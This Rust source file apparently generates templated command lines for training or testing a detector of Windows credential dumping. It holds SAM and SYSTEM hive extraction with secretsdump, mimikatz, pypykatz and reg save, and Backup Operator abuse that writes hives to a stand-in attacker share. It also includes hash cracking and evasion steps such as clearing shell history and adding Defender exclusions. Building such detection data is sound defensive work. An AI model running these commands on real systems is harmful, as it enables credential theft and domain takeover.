//! The tools of the act fetched or looked up, and then used: what `benign/near_tools.rs` leaves out.

use crate::generate::family::{Family, Kind::Cmd, Kind::Sh};

const USED: &[&str] = &[
    "«which¦command -v¦type» «{t.1}¦secretsdump.py» «&&¦;» {use}",
    "«sudo »apt« -y¦-get -y» install «samdump2¦chntpw¦creddump7¦python3-impacket»« >/dev/null»«&&¦ && ¦; ¦⏎»{use}",
    "«pip¦pip3¦pipx» install «impacket¦pypykatz¦netexec»« -q»«&&¦ && ¦; ¦⏎»{use}",
    "git clone« --depth 1» https://git.{company}.com/{first}/«impacket¦creddump7¦pypykatz».git && cd {stem} && {use}",
    "{use} # see man samdump2",
    "{use} | tee {shout} && john --format=NT {shout}",
    "{use} > {stem}.pwdump && hashcat -m 1000 {stem}.pwdump rockyou.txt",
    "{use} > pwdump.txt; awk -F: '{print $4}' pwdump.txt | sort -u",
    "su - {n} -c '{useq}'",
    "sudo -u {n} {use}",
    "cd /home/{n} && {use}",
    "{use}; rm -f {stem}.pwdump; history -c",
];

const USED_CMD: &[&str] = &[
    "where «mimikatz¦pwdump7¦reg» & {use}",
    "certutil -hashfile {dir}\\{bin} SHA256 & {use}",
    "Add-MpPreference -ExclusionPath {dir} & {use}",
    "del /q {dir}\\{stem}.log & {use} & del /f {dir}\\{bin}",
    "net user «sam¦security» {password} /add & {use}",
    "{use} & rem rule t1003_002 should fire",
    "{use} && type {stem}.txt | find \":500:\"",
];

/// Backup operators may save the hives of any machine, a domain controller's too.
const OPERATOR: &[&str] =
    &["{b}", "{b}« > {outfile}¦ 2>&1¦ & dir {dir}»", r"cd {dir} & {b}", r"{dir}\{b}", r".\{b}"];
const OPERATOR_ACTS: &[(&str, &str)] = &[
    (
        "b",
        concat!(
            r"«{bo} ⟦-t {dc}¦-u {user}¦-p {password}¦-d {domain}¦-o {o}⟧¦{bo} -t {dc} -u {user} -p {password} -d {domain} ",
            r"-o {o}¦{bo} -t {dc} -u {user} -p {password} -d {domain} -o {o}¦{bo} -t {dc} -o {o} -u {user} -p {password} ",
            r"-d {domain}¦BackupOperatorToolkit.exe DUMP {dir} {dc}¦BackupOperatorToolkit.exe DSRM {dc} & ",
            r"BackupOperatorToolkit.exe DUMP C:\{stem} {dc}»",
        ),
    ),
    ("bo", "«BackupOperatorToDA.exe¦BackupOperatorToDA.exe¦BackupOperatorToDA¦backupoperatortoda.exe»"),
    ("dc", r"\\«{plainhost}¦{host}¦{fqdn}»"),
    ("o", r"«\\{attacker}\{share}\¦\\{attacker}\{share}¦{dir}\»"),
];
const OPERATOR_OTHERS: &[(&str, &str)] = &[
    (
        "b",
        concat!(
            r"«BackupOperatorToDA.exe «--help¦-h»¦BackupOperatorToolkit.exe SERVICE {dir}\{stem}.exe {dc} {stem} {stem} ",
            r"{stem}¦BackupOperatorToolkit.exe IFEO notepad.exe {dir}\{stem}.exe {dc}¦BackupOperatorToolkit.exe DSRM {dc} ",
            r"{0..2}¦BackupOperatorToolkit.exe --help¦net «group¦localgroup» {g} «/domain¦{user} /add¦»¦dsget group {g} ",
            r"-members¦powershell Get-ADGroupMember {gq}¦wbadmin start backup -backupTarget:{o} -include:C:\{stem}»",
        ),
    ),
    ("g", r#"«"Backup Operators"¦"Server Operators"¦"Print Operators"»"#),
    ("gq", "'Backup Operators'"),
    ("dc", r"\\«{plainhost}¦{host}¦{fqdn}»"),
    ("o", r"\\{host}\{share}"),
];

pub const FAMILIES: &[Family] = &[
    Family::act("near-tools", "near-tools-used", "near-tools-unix", Sh, USED)
        .slots(&[
            ("t", "«samdump2¦chntpw¦pypykatz¦nxc¦ophcrack»"),
            ("n", "«sam¦sammy¦security¦{first}»"),
            (
                "use",
                concat!(
                    "«samdump2 {syscopy} {samcopy}¦chntpw -«l¦i¦u sam» {samcopy}¦{useq}¦ophcrack-cli -g -d {shdir} -w {lxconfig}¦",
                    "pypykatz registry {syscopy} --sam {samcopy}¦pypykatz live registry¦creddump7/pwdump.py {syscopy} {samcopy}¦",
                    "secretsdump.py {target}¦secretsdump.py {impauth} {target}¦{nxc} smb {nxctarget} {nxcauth} --sam¦",
                    "reg.py {target} backup -o '\\\\{attacker}\\{share}'¦reg.py {target} save -keyName 'HKLM\\SAM' -o C:\\Windows\\Temp¦",
                    "{nxc} smb {nxctarget} {nxcauth} -M backup_operator»",
                ),
            ),
            ("useq", "«impacket-secretsdump -sam {samcopy} -system {syscopy} LOCAL¦samdump2 SYSTEM SAM¦secretsdump.py -k -no-pass {fqdn}»"),
        ])
        .weight(12),
    Family::act("near-tools", "near-tools-used-windows", "near-tools-windows", Cmd, USED_CMD)
        .slots(&[
            ("bin", "«pwdump7.exe¦mimikatz.exe¦SharpSecDump.exe¦fgdump.exe»"),
            (
                "use",
                concat!(
                    r"«reg save HKLM\{secret} {outfile}¦{dir}\pwdump7.exe > {outfile}¦mimikatz.exe lsadump::sam exit¦reg export ",
                    r"HKLM\SAM {stem}.reg¦SharpSecDump.exe -target={host}¦HiveNightmare.exe¦copy {shadowhive} {outfile}¦fgdump.exe»",
                ),
            ),
        ])
        .weight(7),
    Family::act("backup-operator", "backup-operator-hives", "backup-operator-other", Cmd, OPERATOR)
        .slots(OPERATOR_ACTS)
        .weight(7),
    Family::other("backup-operator", "backup-operator-other", Cmd, OPERATOR).slots(OPERATOR_OTHERS).weight(14),
];
